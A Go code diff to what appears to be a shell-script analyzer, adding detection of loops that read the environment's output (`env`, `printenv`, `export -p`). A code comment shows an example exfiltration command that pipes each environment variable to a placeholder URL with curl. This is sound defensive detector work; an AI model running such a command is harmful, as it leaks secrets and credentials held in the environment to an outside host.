@@ -356,7 +356,29 @@ func (a *analyzer) readLoop(s *syntax.Stmt, fed []string) bool {
 		}
 		items = lines(text)
 	}
+	if len(items) == 1 && envOutput(items[0]) {
+		// `while read l; do curl -d "$l" URL; done < <(env)`, `env | while read l; …`: each
+		// line the loop reads is part of the environment, so every variable read holds what
+		// `$(env)` stands for, judged once (issue 26, det68).
+		if a.work++; a.work > maxWork {
+			a.res.Incomplete = true
+			return true
+		}
+		for _, n := range names {
+			a.vars[n] = items[0]
+		}
+		for _, st := range wc.Do {
+			a.stmt(st)
+		}
+		return true
+	}
 	return a.iterate(names, items, wc.Do, true)
+}
+
+// envOutput reports whether t stands for the output of a command that prints the environment
+// (`$(env)`, `$(printenv)`, `$(export -p)`: envSubst, the whole of t).
+func envOutput(t string) bool {
+	return strings.HasPrefix(t, "$(") && envSubst.FindString(t) == t
 }
 
 // setParams judges `set -- WORDS` (and `set WORDS` whose first word is no option): the
